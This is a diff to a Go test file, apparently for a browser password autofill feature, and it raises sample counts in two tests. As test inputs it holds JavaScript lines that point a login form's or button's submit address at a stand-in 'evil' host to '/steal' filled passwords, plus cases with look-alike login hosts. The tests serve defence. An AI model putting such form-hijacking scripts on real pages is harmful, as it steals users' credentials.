@@ -23,7 +23,7 @@ func TestWhatChangesAfterAFillTakesTheValueNowhereElse(t *testing.T) {
 	t.Parallel()
 	_, p, b := openPageOfEveryName(t)
 	const form = `<form id=f method=post action=/login>` + passwordField + `<button id=b>Log in</button></form>`
-	for i, c := range sample.Of(t, 2, []struct{ why, page, script string }{
+	for i, c := range sample.Of(t, 3, []struct{ why, page, script string }{
 		{"the form's address", form, `f.action = evil + '/steal'`},
 		{"the button's address", form, `b.formAction = evil + '/steal'`},
 		{"a button that was added", form, `const n = b.cloneNode(true); n.formAction = evil + '/steal'; b.replaceWith(n)`},
@@ -179,7 +179,7 @@ func TestALookAlikeIsNotTheLoginsSite(t *testing.T) {
 	port := func(site *browsertest.Site) string { return site.URL[strings.LastIndexByte(site.URL, ':'):] }
 	entry, own, named := s.At("bank.example"), plain.At("127.0.0.1"), plain.At("localhost")
 	secure := func(host string) string { return "https://" + host + port(s) }
-	for _, c := range sample.Of(t, 2, []struct {
+	for _, c := range sample.Of(t, 3, []struct {
 		why, url string
 		is       string // the origin that it is; empty for none of the login's
 	}{
